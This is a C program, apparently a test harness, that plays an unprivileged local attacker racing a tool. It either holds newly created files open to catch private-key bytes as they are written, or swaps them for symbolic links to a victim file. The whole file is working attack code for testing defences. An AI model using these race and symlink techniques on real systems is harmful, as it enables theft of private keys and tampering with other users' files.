/*
 * An unprivileged local user racing the tool, for the attack tests. Runs until SIGTERM,
 * then prints what it achieved.
 *
 *   attacker read DIR      open every new file in DIR at once, keep it open, and look for
 *                          private key bytes as the file fills: prints
 *                          "attempts=N opened=N leaked=N"
 *   attacker swap DIR VICTIM
 *                          replace every new file in DIR with a symbolic link to VICTIM (the
 *                          file is moved aside first), so that a writer that reopens or
 *                          changes the file by path hits VICTIM: prints "attempts=N swapped=N"
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_OPEN 4096

static volatile sig_atomic_t stop;

static void on_term(int sig) {
    (void) sig;
    stop = 1;
}

struct watched {
    int fd;
    struct timespec since;
};

static double age(struct timespec since) {
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (now.tv_sec - since.tv_sec) + (now.tv_nsec - since.tv_nsec) / 1e9;
}

int main(int argc, char **argv) {
    if (argc < 3 || (strcmp(argv[1], "swap") == 0 && argc < 4)) {
        fprintf(stderr, "usage: attacker read DIR | attacker swap DIR VICTIM\n");
        return 2;
    }
    int swap = strcmp(argv[1], "swap") == 0;
    const char *dir = argv[2];
    signal(SIGTERM, on_term);
    signal(SIGINT, on_term);
    int in = inotify_init1(IN_NONBLOCK);
    if (in < 0 || inotify_add_watch(in, dir, IN_CREATE | IN_MOVED_TO) < 0) {
        perror("inotify");
        return 1;
    }
    fprintf(stdout, "WATCHING uid=%d\n", (int) getuid());
    fflush(stdout);
    long attempts = 0, opened = 0, leaked = 0, swapped = 0;
    static struct watched open_files[MAX_OPEN];
    int count = 0;
    char events[64 * 1024] __attribute__((aligned(8)));
    char path[PATH_MAX], aside[PATH_MAX], content[64 * 1024 + 1];
    while (!stop) {
        struct pollfd p = {in, POLLIN, 0};
        poll(&p, 1, count > 0 ? 2 : 50);
        ssize_t n;
        while ((n = read(in, events, sizeof events)) > 0) {
            for (char *at = events; at < events + n;) {
                struct inotify_event *e = (struct inotify_event *) at;
                at += sizeof *e + e->len;
                if (e->len == 0 || (e->mask & IN_ISDIR)) {
                    continue;
                }
                if (swap && strstr(e->name, ".stolen") != NULL) {
                    continue;
                }
                snprintf(path, sizeof path, "%s/%s", dir, e->name);
                struct stat st;
                if (swap && (lstat(path, &st) != 0 || S_ISLNK(st.st_mode))) {
                    continue; /* gone already, or the attacker's own link */
                }
                attempts++;
                if (swap) {
                    snprintf(aside, sizeof aside, "%s/%s.stolen", dir, e->name);
                    if (rename(path, aside) == 0 && symlink(argv[3], path) == 0) {
                        swapped++;
                    }
                    unlink(aside);
                    continue;
                }
                int fd = open(path, O_RDONLY | O_NOFOLLOW | O_NONBLOCK);
                if (fd < 0) {
                    continue;
                }
                opened++;
                if (count < MAX_OPEN) {
                    open_files[count].fd = fd;
                    clock_gettime(CLOCK_MONOTONIC, &open_files[count].since);
                    count++;
                } else {
                    close(fd);
                }
            }
        }
        /* A descriptor opened in time sees whatever is written later, whatever the mode becomes. */
        for (int i = 0; i < count;) {
            ssize_t got = pread(open_files[i].fd, content, sizeof content - 1, 0);
            int done = age(open_files[i].since) > 3.0;
            if (got > 0) {
                content[got] = 0;
                if (strstr(content, "PRIVATE KEY") != NULL) {
                    leaked++;
                    done = 1;
                }
            }
            if (done) {
                close(open_files[i].fd);
                open_files[i] = open_files[--count];
            } else {
                i++;
            }
        }
    }
    if (swap) {
        printf("attempts=%ld swapped=%ld\n", attempts, swapped);
    } else {
        printf("attempts=%ld opened=%ld leaked=%ld\n", attempts, opened, leaked);
    }
    fflush(stdout);
    return 0;
}
